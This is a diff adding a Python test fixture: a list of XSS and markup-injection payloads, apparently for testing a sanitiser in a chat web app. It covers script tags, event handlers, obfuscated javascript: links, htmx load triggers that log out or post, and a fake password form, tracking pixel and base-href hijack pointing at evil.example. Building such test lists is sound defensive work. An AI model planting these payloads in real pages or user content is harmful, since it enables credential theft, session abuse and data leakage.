@@ -1,0 +1,27 @@
+"""Texts that would do harm if a page believed them."""
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '<a href="javascript:alert(1)">x</a>',
+    "<svg/onload=alert(1)><math><mi//xlink:href='data:x,<script>1</script>'>",
+    '<div hx-get="/accounts/logout/" hx-trigger="load">x</div>',
+    '<p data-hx-post="/chat/" data-hx-trigger="load" hx-on:load="alert(1)">',
+    "<form action=https://evil.example><input name=password><button formaction=//evil.example>Sign in</button></form>",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe><template><script>1</script></template>',
+    "<style>*{background:url(https://evil.example)}</style><p style='position:fixed;inset:0' id=composer>over</p>",
+    "![x](https://evil.example/pixel.png) ![y](data:image/svg+xml;base64,PHN2Zy8+)",
+    "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](vbscript:x) [w](data:text/html,<script>1</script>)",
+    "[x](java\tscript:alert(1)) [y](&#106;avascript:alert(1)) [z](\x01javascript:alert(1))",
+    "<javascript:alert(1)> <data:text/html;base64,x> [ref]: javascript:alert(1)\n\n[ref]",
+    '[https://bank.example](https://evil.example "onmouseover=alert(1)")',
+    '```"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
+    "```html\n<script>alert('x')</script>\n<img src=x onerror=y>\n```",
+    "`</code><script>alert(1)</script>` and $<img src=x onerror=alert(1)>$ \\(<script>1</script>\\)",
+    "| <script>x</script> | <img src=x> |\n|---|---|\n| `<b onclick=x>` | [a](javascript:b) |",
+    "<!--><script>alert(1)</script>--> <![CDATA[<script>alert(1)</script>]]> <?php ?>",
+    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "1. x\n   <details open ontoggle=alert(1)>\n\n> <base href=https://evil.example>",
+    "<x-a hx-ext='load' hx-vals='js:{a: alert(1)}'>\n\n\x00<b\x00onclick=x>",
+]
